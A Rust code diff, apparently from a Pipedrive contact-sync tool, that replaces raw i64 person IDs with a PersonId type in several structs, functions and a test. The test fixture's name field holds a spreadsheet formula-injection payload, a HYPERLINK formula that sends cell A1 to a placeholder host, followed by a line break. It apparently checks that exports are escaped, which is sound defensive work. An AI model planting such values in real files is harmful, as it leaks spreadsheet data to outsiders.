@@ -5,7 +5,7 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 use tandem_core::ConnectionId;
-use tandem_core::ContactId;
+use tandem_core::{ContactId, PersonId};
 
 use chrono::{DateTime, Utc};
 use serde::Serialize;
@@ -39,7 +39,7 @@ pub mod state {
 #[derive(Debug, Clone, Serialize, serde::Deserialize, PartialEq)]
 pub struct Member {
     pub contact_id: ContactId,
-    pub person_id: Option<i64>,
+    pub person_id: Option<PersonId>,
     pub name: Option<String>,
     pub archived: bool,
     pub updated_at: DateTime<Utc>,
@@ -174,7 +174,7 @@ pub(crate) async fn record_apid_conflict<C: Conn>(
     txn: &C,
     connection: ConnectionId,
     contact: ContactId,
-    persons: &[i64],
+    persons: &[PersonId],
     now: DateTime<Utc>,
 ) -> Result<(), SyncError> {
     // The contact repository still takes the raw connection.
@@ -224,7 +224,7 @@ pub async fn set_state(engine: &Engine, group: Uuid, new_state: &str) -> Result<
 /// Where a person is used in Pipedrive (asked on demand: it costs API tokens).
 #[derive(Debug, Clone, Serialize, PartialEq, Eq)]
 pub struct Usage {
-    pub person_id: i64,
+    pub person_id: PersonId,
     pub deals: usize,
     pub activities: usize,
 }
@@ -232,7 +232,7 @@ pub struct Usage {
 pub async fn usage(
     _engine: &Engine,
     conn: &ConnectionCtx,
-    person_id: i64,
+    person_id: PersonId,
 ) -> Result<Usage, SyncError> {
     let deals = conn.crm.person_deals(&conn.session, person_id).await?.len();
     let activities = conn
@@ -251,8 +251,8 @@ pub async fn usage(
 pub async fn merge_persons(
     engine: &Engine,
     conn: &ConnectionCtx,
-    survivor: i64,
-    merged: i64,
+    survivor: PersonId,
+    merged: PersonId,
 ) -> Result<Uuid, SyncError> {
     if survivor == merged {
         return Err(SyncError::Invalid(
@@ -351,7 +351,7 @@ pub async fn link_contact(
     engine: &Engine,
     conn: &ConnectionCtx,
     contact_id: ContactId,
-    person_id: i64,
+    person_id: PersonId,
 ) -> Result<(), SyncError> {
     let person = conn
         .crm
@@ -449,7 +449,7 @@ mod tests {
             state: state::OPEN.to_owned(),
             members: vec![Member {
                 contact_id: ContactId::nil(),
-                person_id: Some(7),
+                person_id: Some(PersonId::new(7).unwrap()),
                 name: Some("=HYPERLINK(\"http://x/?\"&A1,\"click\")\r\nnext".to_owned()),
                 archived: false,
                 updated_at: DateTime::<Utc>::UNIX_EPOCH,
